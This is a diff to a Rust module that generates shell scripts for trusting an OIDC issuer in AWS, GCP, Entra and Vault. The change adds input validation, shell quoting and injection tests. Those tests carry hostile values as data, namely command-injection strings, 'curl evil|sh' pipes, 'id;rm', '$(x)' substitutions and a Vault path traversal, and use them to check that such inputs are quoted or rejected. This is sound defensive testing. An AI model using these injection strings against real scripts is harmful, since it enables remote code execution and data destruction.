@@ -1,13 +1,25 @@
 //! What to apply on the cloud side to trust this issuer for one workload:
 //! AWS IAM, GCP Workload Identity Federation, Microsoft Entra and Vault.
 //! Each target pins both the audience and the exact subject, and the lints
-//! catch the mistakes each cloud punishes late and obscurely.
+//! catch the mistakes each cloud punishes late and obscurely. The output is
+//! a shell script people run as is: every value in it is checked and quoted,
+//! and JSON is built with serde_json and passed in quoted here-documents.
 
 use lanyard_proto::SpiffeId;
-use serde_json::json;
+use serde_json::{Value, json};
+
+use crate::config::Issuer;
+
+mod names;
+
+use names::sh_quote;
 
 /// GCP maps `sub` to `google.subject`, which may not exceed 127 bytes.
 const GCP_SUBJECT_LIMIT: usize = 127;
+/// IAM's limit on an OIDC provider's client IDs (the audiences).
+const AWS_CLIENT_ID_LIMIT: usize = 255;
+/// A generous bound for text no cloud documents a limit for.
+const TEXT_LIMIT: usize = 1024;
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
 pub enum Target {
@@ -21,7 +33,7 @@ pub enum Target {
 #[derive(Debug, Clone)]
 pub struct Request {
     pub target: Target,
-    pub issuer: String,
+    pub issuer: Issuer,
     /// A SPIFFE ID, or with `allow_wildcard` a pattern ending in `/*`.
     pub subject: String,
     pub audience: Option<String>,
@@ -49,6 +61,14 @@ pub enum FederationError {
     BadSubject { subject: String, reason: String },
     #[error("{target:?} does not support wildcard subjects; register each SPIFFE ID")]
     WildcardUnsupported { target: Target },
+    #[error("{flag} {value:?}: {rule}")]
+    BadValue {
+        flag: &'static str,
+        value: String,
+        rule: String,
+    },
+    #[error("rendering JSON: {0}")]
+    Json(String),
 }
 
 fn validate_subject(request: &Request) -> Result<bool, FederationError> {
@@ -74,14 +94,14 @@ fn validate_subject(request: &Request) -> Result<bool, FederationError> {
 pub fn render(request: &Request) -> Result<Rendered, FederationError> {
     let wildcard = validate_subject(request)?;
     let mut warnings = Vec::new();
-    if !request.issuer.starts_with("https://") {
+    if !request.issuer.is_https() {
         warnings.push(format!(
             "issuer {} is not https: AWS, GCP and Entra fetch discovery only over HTTPS; put a TLS proxy or a static host in front",
-            request.issuer
+            request.issuer.as_str()
         ));
     }
     let text = match request.target {
-        Target::Aws => aws(request, wildcard),
+        Target::Aws => aws(request, wildcard)?,
         Target::Gcp => {
             if wildcard {
                 return Err(FederationError::WildcardUnsupported {
@@ -94,7 +114,7 @@ pub fn render(request: &Request) -> Result<Rendered, FederationError> {
                     request.subject.len()
                 ));
             }
-            gcp(request)
+            gcp(request)?
         }
         Target::Azure => {
             if wildcard {
@@ -108,28 +128,45 @@ pub fn render(request: &Request) -> Result<Rendered, FederationError> {
                     request.signing_alg
                 ));
             }
-            azure(request)
+            azure(request)?
         }
-        Target::Vault => vault(request, wildcard),
+        Target::Vault => vault(request, wildcard)?,
     };
     Ok(Rendered { text, warnings })
 }
 
-fn aws(request: &Request, wildcard: bool) -> String {
-    let audience = request.audience.as_deref().unwrap_or("sts.amazonaws.com");
-    let provider = request
-        .issuer
-        .trim_start_matches("https://")
-        .trim_start_matches("http://");
-    let account = request.account.as_deref().unwrap_or("ACCOUNT_ID");
-    let role = request.name.as_deref().unwrap_or("ROLE_NAME");
+/// The value given for a flag, checked, or the placeholder printed instead.
+fn given<'a>(
+    value: &'a Option<String>,
+    placeholder: &'a str,
+    check: impl FnOnce(&str) -> Result<(), FederationError>,
+) -> Result<&'a str, FederationError> {
+    match value {
+        Some(value) => check(value).map(|()| value.as_str()),
+        None => Ok(placeholder),
+    }
+}
+
+/// JSON for a quoted here-document: the shell expands nothing in it, and a
+/// pretty-printed object has no line that is just `EOF`.
+fn heredoc_json(value: &Value) -> Result<String, FederationError> {
+    serde_json::to_string_pretty(value).map_err(|e| FederationError::Json(e.to_string()))
+}
+
+fn aws(request: &Request, wildcard: bool) -> Result<String, FederationError> {
+    let audience = given(&request.audience, "sts.amazonaws.com", |a| {
+        names::free_text("--audience", a, AWS_CLIENT_ID_LIMIT)
+    })?;
+    let account = given(&request.account, "ACCOUNT_ID", names::aws_account)?;
+    let role = given(&request.name, "ROLE_NAME", names::aws_role)?;
+    let provider = request.issuer.host_and_path();
     let (aud_key, sub_key) = (format!("{provider}:aud"), format!("{provider}:sub"));
     let conditions = if wildcard {
         json!({ "StringEquals": { aud_key: audience }, "StringLike": { sub_key: request.subject } })
     } else {
         json!({ "StringEquals": { aud_key: audience, sub_key: request.subject } })
     };
-    let policy = json!({
+    let policy = heredoc_json(&json!({
         "Version": "2012-10-17",
         "Statement": [{
             "Effect": "Allow",
@@ -137,86 +174,113 @@ fn aws(request: &Request, wildcard: bool) -> String {
             "Action": "sts:AssumeRoleWithWebIdentity",
             "Condition": conditions,
         }]
-    });
-    let policy = serde_json::to_string_pretty(&policy).unwrap_or_default();
-    format!(
+    }))?;
+    Ok(format!(
         "# 1. Register the issuer with IAM (once per account).\n\
          aws iam create-open-id-connect-provider --url {issuer} --client-id-list {audience}\n\n\
-         # 2. Trust policy for the role: save as trust-policy.json.\n{policy}\n\n\
+         # 2. The role's trust policy.\n\
+         cat > trust-policy.json <<'EOF'\n{policy}\nEOF\n\n\
          # 3. Create the role (or update an existing one's trust policy).\n\
          aws iam create-role --role-name {role} --assume-role-policy-document file://trust-policy.json\n\n\
-         # The workload then uses: lanyard-agent aws credential-process --role-arn arn:aws:iam::{account}:role/{role}\n",
-        issuer = request.issuer,
-    )
+         # The workload then uses: lanyard-agent aws credential-process --role-arn {arn}\n",
+        issuer = sh_quote(request.issuer.as_str()),
+        audience = sh_quote(audience),
+        role = sh_quote(role),
+        arn = sh_quote(&format!("arn:aws:iam::{account}:role/{role}")),
+    ))
 }
 
-fn gcp(request: &Request) -> String {
-    let project = request.account.as_deref().unwrap_or("PROJECT_NUMBER");
-    let pool = request.name.as_deref().unwrap_or("lanyard-pool");
+fn gcp(request: &Request) -> Result<String, FederationError> {
+    let project = given(&request.account, "PROJECT_NUMBER", names::gcp_project)?;
+    let pool = given(&request.name, "lanyard-pool", names::gcp_pool)?;
     let provider = "lanyard";
     let default_audience = format!(
         "//iam.googleapis.com/projects/{project}/locations/global/workloadIdentityPools/{pool}/providers/{provider}"
     );
-    let audience = request.audience.clone().unwrap_or(default_audience);
-    format!(
+    let audience = given(&request.audience, &default_audience, |a| {
+        names::free_text("--audience", a, TEXT_LIMIT)
+    })?;
+    // A CEL string in double quotes; the SPIFFE ID holds no quote or backslash.
+    let condition = format!("assertion.sub == \"{}\"", request.subject);
+    let member = format!(
+        "principal://iam.googleapis.com/projects/{project}/locations/global/workloadIdentityPools/{pool}/subject/{}",
+        request.subject
+    );
+    Ok(format!(
         "# 1. A pool and an OIDC provider that trusts exactly this workload.\n\
          gcloud iam workload-identity-pools create {pool} --location=global\n\
          gcloud iam workload-identity-pools providers create-oidc {provider} --location=global \\\n  \
          --workload-identity-pool={pool} --issuer-uri={issuer} \\\n  \
-         --allowed-audiences='{audience}' \\\n  \
-         --attribute-mapping='google.subject=assertion.sub' \\\n  \
-         --attribute-condition=\"assertion.sub == '{subject}'\"\n\
+         --allowed-audiences={audience} \\\n  \
+         --attribute-mapping=google.subject=assertion.sub \\\n  \
+         --attribute-condition={condition}\n\
          # If the issuer is not reachable from Google, add: --jwk-json-path=jwks.json (lanyard-server oidc publish writes it).\n\n\
          # 2. Let that subject impersonate a service account.\n\
          gcloud iam service-accounts add-iam-policy-binding SERVICE_ACCOUNT_EMAIL \\\n  \
          --role=roles/iam.workloadIdentityUser \\\n  \
-         --member='principal://iam.googleapis.com/projects/{project}/locations/global/workloadIdentityPools/{pool}/subject/{subject}'\n\n\
-         # The workload then uses: lanyard-agent gcp executable --audience '{audience}'\n",
-        issuer = request.issuer,
-        subject = request.subject,
-    )
+         --member={member}\n\n\
+         # The workload then uses: lanyard-agent gcp executable --audience {audience}\n",
+        pool = sh_quote(pool),
+        issuer = sh_quote(request.issuer.as_str()),
+        audience = sh_quote(audience),
+        condition = sh_quote(&condition),
+        member = sh_quote(&member),
+    ))
 }
 
-fn azure(request: &Request) -> String {
-    let audience = request
-        .audience
-        .as_deref()
-        .unwrap_or("api://AzureADTokenExchange");
-    let identity = request.name.as_deref().unwrap_or("IDENTITY_NAME");
-    let group = request.account.as_deref().unwrap_or("RESOURCE_GROUP");
-    format!(
+fn azure(request: &Request) -> Result<String, FederationError> {
+    let audience = given(&request.audience, "api://AzureADTokenExchange", |a| {
+        names::free_text("--audience", a, TEXT_LIMIT)
+    })?;
+    let identity = given(&request.name, "IDENTITY_NAME", names::azure_identity)?;
+    let group = given(&request.account, "RESOURCE_GROUP", names::azure_group)?;
+    Ok(format!(
         "# A federated credential on a user-assigned managed identity.\n\
          az identity federated-credential create --name lanyard \\\n  \
          --identity-name {identity} --resource-group {group} \\\n  \
          --issuer {issuer} --subject {subject} --audiences {audience}\n",
-        issuer = request.issuer,
-        subject = request.subject,
-    )
+        identity = sh_quote(identity),
+        group = sh_quote(group),
+        issuer = sh_quote(request.issuer.as_str()),
+        subject = sh_quote(&request.subject),
+        audience = sh_quote(audience),
+    ))
 }
 
-fn vault(request: &Request, wildcard: bool) -> String {
-    let audience = request.audience.as_deref().unwrap_or("vault");
-    let role = request.name.as_deref().unwrap_or("lanyard-workload");
-    let policy = request.account.as_deref().unwrap_or("POLICY");
-    let glob = if wildcard {
-        format!(
-            "bound_claims_type=glob bound_claims='{{\"sub\":\"{}\"}}'",
-            request.subject
-        )
+fn vault(request: &Request, wildcard: bool) -> Result<String, FederationError> {
+    let audience = given(&request.audience, "vault", |a| {
+        names::free_text("--audience", a, TEXT_LIMIT)
+    })?;
+    let role = given(&request.name, "lanyard-workload", names::vault_role)?;
+    let policy = given(&request.account, "POLICY", |p| {
+        names::free_text("--account", p, TEXT_LIMIT)
+    })?;
+    let mut body = json!({
+        "role_type": "jwt",
+        "user_claim": "sub",
+        "bound_audiences": [audience],
+        "token_policies": [policy],
+        "token_ttl": "15m",
+    });
+    // `bound_claims` is a map, which Vault refuses as a key=value string:
+    // hence the role as a JSON body.
+    if wildcard {
+        body["bound_claims_type"] = json!("glob");
+        body["bound_claims"] = json!({ "sub": request.subject });
     } else {
-        format!("bound_subject='{}'", request.subject)
-    };
-    format!(
+        body["bound_subject"] = json!(request.subject);
+    }
+    Ok(format!(
         "# 1. The JWT auth method, trusting the issuer's discovery document.\n\
          vault auth enable jwt\n\
-         vault write auth/jwt/config oidc_discovery_url='{issuer}'\n\
+         vault write auth/jwt/config oidc_discovery_url={issuer}\n\
          # With a self-signed issuer certificate, add: oidc_discovery_ca_pem=@oidc-tls-cert.pem\n\n\
          # 2. A role bound to exactly this audience and subject.\n\
-         vault write auth/jwt/role/{role} role_type=jwt user_claim=sub \\\n  \
-         bound_audiences='{audience}' {glob} \\\n  \
-         token_policies={policy} token_ttl=15m\n",
-        issuer = request.issuer,
-    )
+         vault write {path} - <<'EOF'\n{body}\nEOF\n",
+        issuer = sh_quote(request.issuer.as_str()),
+        path = sh_quote(&format!("auth/jwt/role/{role}")),
+        body = heredoc_json(&body)?,
+    ))
 }
 
 #[cfg(test)]
@@ -226,7 +290,7 @@ mod tests {
     fn request(target: Target, subject: &str) -> Request {
         Request {
             target,
-            issuer: "https://oidc.example.org".into(),
+            issuer: Issuer::parse("https://oidc.example.org").expect("issuer"),
             subject: subject.into(),
             audience: None,
             allow_wildcard: false,
@@ -292,7 +356,7 @@ mod tests {
         rsa.signing_alg = "RS256".into();
         assert!(render(&rsa)?.warnings.is_empty());
         let mut http = request(Target::Vault, "spiffe://example.org/web");
-        http.issuer = "http://10.0.0.1:8080".into();
+        http.issuer = Issuer::parse("http://10.0.0.1:8080")?;
         assert!(
             render(&http)?
                 .warnings
@@ -318,5 +382,128 @@ mod tests {
             assert!(text.contains("spiffe://example.org/web"), "{target:?}");
         }
         Ok(())
+    }
+
+    /// The JSON between `<<'EOF'` and `EOF`, and the command that reads it.
+    fn heredoc(text: &str) -> Result<(String, serde_json::Value), Box<dyn std::error::Error>> {
+        let (before, after) = text.split_once(" <<'EOF'\n").ok_or("no here-document")?;
+        let (json, _) = after.split_once("\nEOF\n").ok_or("no EOF line")?;
+        let command = before.lines().last().ok_or("no command")?.to_owned();
+        Ok((command, serde_json::from_str(json)?))
+    }
+
+    #[test]
+    fn vault_roles_are_json_with_bound_claims_a_map() -> Result<(), Box<dyn std::error::Error>> {
+        let mut wild = request(Target::Vault, "spiffe://example.org/ns/*");
+        wild.allow_wildcard = true;
+        wild.name = Some("web".into());
+        let (command, role) = heredoc(&render(&wild)?.text)?;
+        assert_eq!(command, "vault write auth/jwt/role/web -");
+        assert_eq!(role["bound_claims_type"], "glob");
+        assert_eq!(
+            role["bound_claims"],
+            json!({ "sub": "spiffe://example.org/ns/*" }),
+            "an object, not a string"
+        );
+        assert!(role.get("bound_subject").is_none());
+        assert_eq!(role["bound_audiences"], json!(["vault"]));
+        assert_eq!(role["token_policies"], json!(["123456789012"]));
+
+        let (_, exact) =
+            heredoc(&render(&request(Target::Vault, "spiffe://example.org/web"))?.text)?;
+        assert_eq!(exact["bound_subject"], "spiffe://example.org/web");
+        assert!(exact.get("bound_claims").is_none());
+        Ok(())
+    }
+
+    #[test]
+    fn the_aws_provider_is_the_issuer_without_its_scheme() -> Result<(), Box<dyn std::error::Error>>
+    {
+        let mut with_path = request(Target::Aws, "spiffe://example.org/web");
+        with_path.issuer = Issuer::parse("https://oidc.example.org:8443/tenant")?;
+        let (command, policy) = heredoc(&render(&with_path)?.text)?;
+        assert_eq!(command, "cat > trust-policy.json");
+        let equals = &policy["Statement"][0]["Condition"]["StringEquals"];
+        assert_eq!(
+            equals["oidc.example.org:8443/tenant:sub"],
+            "spiffe://example.org/web"
+        );
+        Ok(())
+    }
+
+    /// Runs the rendered script's `text` with every cloud CLI replaced by a
+    /// function that prints its arguments: what the real commands would get.
+    fn arguments_seen_by_sh(text: &str) -> Result<String, Box<dyn std::error::Error>> {
+        let dir = tempfile::tempdir()?;
+        let script = format!(
+            "show() {{ for a in \"$@\"; do printf '[%s]' \"$a\"; done; echo; }}\n\
+             aws() {{ show aws \"$@\"; }}\ngcloud() {{ show gcloud \"$@\"; }}\n\
+             az() {{ show az \"$@\"; }}\nvault() {{ show vault \"$@\"; cat; }}\n{text}"
+        );
+        let output = std::process::Command::new("sh")
+            .arg("-c")
+            .arg(script)
+            .current_dir(dir.path())
+            .output()?;
+        assert!(output.status.success(), "{output:?}");
+        Ok(String::from_utf8(output.stdout)?)
+    }
+
+    #[test]
+    fn hostile_text_stays_one_argument() -> Result<(), Box<dyn std::error::Error>> {
+        let hostile = "x'; echo INJECTED; '$(echo INJECTED)`echo INJECTED`";
+        for target in [Target::Aws, Target::Gcp, Target::Azure, Target::Vault] {
+            let mut evil = request(target, "spiffe://example.org/web");
+            evil.audience = Some(hostile.into());
+            evil.account = None;
+            evil.issuer = Issuer::parse("https://oidc.example.org/a'$(echo&INJECTED)")?;
+            let text = render(&evil)?.text;
+            let seen = arguments_seen_by_sh(&text)?;
+            assert!(!seen.lines().any(|l| l == "INJECTED"), "{target:?}: {seen}");
+            assert!(
+                seen.contains(&format!("[{hostile}]"))
+                    || seen.contains(&format!("[--allowed-audiences={hostile}]"))
+                    || seen.contains(&serde_json::to_string(hostile)?),
+                "{target:?}: the audience arrives whole: {seen}"
+            );
+            assert!(
+                seen.contains("oidc.example.org/a'$(echo&INJECTED)"),
+                "{target:?}: the issuer arrives whole: {seen}"
+            );
+        }
+        Ok(())
+    }
+
+    #[test]
+    fn names_a_cloud_would_refuse_are_refused() {
+        let cases = [
+            (Target::Aws, Some("web'; curl evil|sh; '"), None, "--name"),
+            (Target::Aws, None, Some("12345"), "--account"),
+            (Target::Gcp, Some("Pool With Spaces"), None, "--name"),
+            (Target::Gcp, None, Some("my-project"), "--account"),
+            (Target::Azure, Some("id;rm"), None, "--name"),
+            (Target::Azure, None, Some("rg$(x)"), "--account"),
+            (Target::Vault, Some("web/../../sys/policy"), None, "--name"),
+            (Target::Vault, None, Some("a\nb"), "--account"),
+        ];
+        for (target, name, account, flag) in cases {
+            let mut bad = request(target, "spiffe://example.org/web");
+            bad.name = name.map(Into::into);
+            bad.account = account.map(Into::into);
+            let error = render(&bad).err();
+            assert!(
+                matches!(&error, Some(FederationError::BadValue { flag: f, .. }) if *f == flag),
+                "{target:?} {name:?} {account:?}: {error:?}"
+            );
+        }
+        let mut newline = request(Target::Gcp, "spiffe://example.org/web");
+        newline.audience = Some("a\ncurl evil|sh".into());
+        assert!(matches!(
+            render(&newline),
+            Err(FederationError::BadValue {
+                flag: "--audience",
+                ..
+            })
+        ));
     }
 }
